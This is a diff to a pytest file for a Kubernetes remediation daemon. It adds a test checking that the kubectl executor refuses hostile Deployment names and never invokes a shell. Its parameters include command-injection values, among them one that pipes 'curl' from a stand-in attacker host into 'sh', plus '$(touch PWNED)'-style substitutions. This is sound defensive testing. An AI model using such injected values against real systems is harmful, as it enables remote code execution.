@@ -12,6 +12,7 @@ import asyncio
 import hashlib
 import json
 import logging
+import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,12 +20,16 @@ from typing import Any
 
 import pytest
 
+from remediator.execution.base import Outcome
 from remediator.execution.kube import KubernetesExecutor
+from remediator.execution.kubectl import KubectlExecutor
 from remediator.k8s.retrying import RetryPolicy
 from remediator.logs import JsonFormatter
+from remediator.planning.actions import Action, Target
+from remediator.planning.commands import UnsafeName
 from tests.daemon.conftest import Daemon, MakeDaemon
 from tests.daemon.payloads import alert, body, notification, resolved
-from tests.daemon.support import T0, RecordingExecutor, make_settings
+from tests.daemon.support import T0, RecordingExecutor, make_settings, scale
 from tests.fakekube.harness import FakeKube
 
 EXECUTING = {"execution.auto_execute": True, "server.allow_insecure": True}
@@ -404,3 +409,59 @@ async def test_burst_repeat_and_new_episode_on_a_cluster_of_three_replicas(
     assert (again.outcome, len(again.episodes)) == ("skipped", 4)
     assert again.reason.startswith("already_at_replicas:")
     assert len(scaled) == 1
+
+
+# --- 12: the live kubectl path --------------------------------------------------------------
+
+RECORDING_KUBECTL = """#!{python}
+import json, sys
+with open({log!r}, "a") as log:
+    log.write(json.dumps(sys.argv[1:]) + "\\n")
+if sys.argv[1] == "get":
+    print("3", end="")
+"""
+
+
+async def outcome(executor: KubectlExecutor, action: Action) -> Outcome:
+    """The outcome the daemon records: its decider turns an UnsafeName into refused."""
+    try:
+        return (await executor.run(action)).outcome
+    except UnsafeName:
+        return Outcome.REFUSED
+
+
+def names_under(directory: Path) -> set[str]:
+    """Every file name under `directory`, however deep."""
+    return {path.name for path in directory.rglob("*")}
+
+
+@pytest.mark.parametrize("name", [
+    "checkout'; curl -s http://attacker.invalid/x | sh; echo '", "$(touch PWNED)",
+    "`touch PWNED`", "Checkout_Service",
+])
+async def test_kubectl_executor_refuses_a_hostile_name_without_running_anything(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+    """
+    Field report 12, the live path: kubectl runs from argument lists, no shell.
+
+    An action naming a hostile Deployment (one that got past every earlier
+    check) is refused by the executor itself and kubectl never starts; a
+    valid action reaches kubectl with each value as one argument.
+    """
+    monkeypatch.chdir(tmp_path)
+    log = tmp_path / "argv.log"
+    stub = tmp_path / "kubectl"
+    stub.write_text(RECORDING_KUBECTL.format(python=sys.executable, log=str(log)))
+    stub.chmod(0o755)
+    executor = KubectlExecutor(kubectl=str(stub))
+
+    refused = await outcome(executor, scale(5, Target("Deployment", "shop", name)))
+    done = await outcome(executor, scale(5, Target("Deployment", "shop", "checkout")))
+
+    assert (refused, done) == (Outcome.REFUSED, Outcome.EXECUTED)
+    assert [json.loads(line) for line in log.read_text().splitlines()] == [
+        ["get", "deployment", "checkout", "--namespace=shop", "-o",
+         "jsonpath={.spec.replicas}"],
+        ["scale", "deployment", "checkout", "--replicas=5", "--namespace=shop"],
+    ]
+    assert "PWNED" not in names_under(tmp_path)
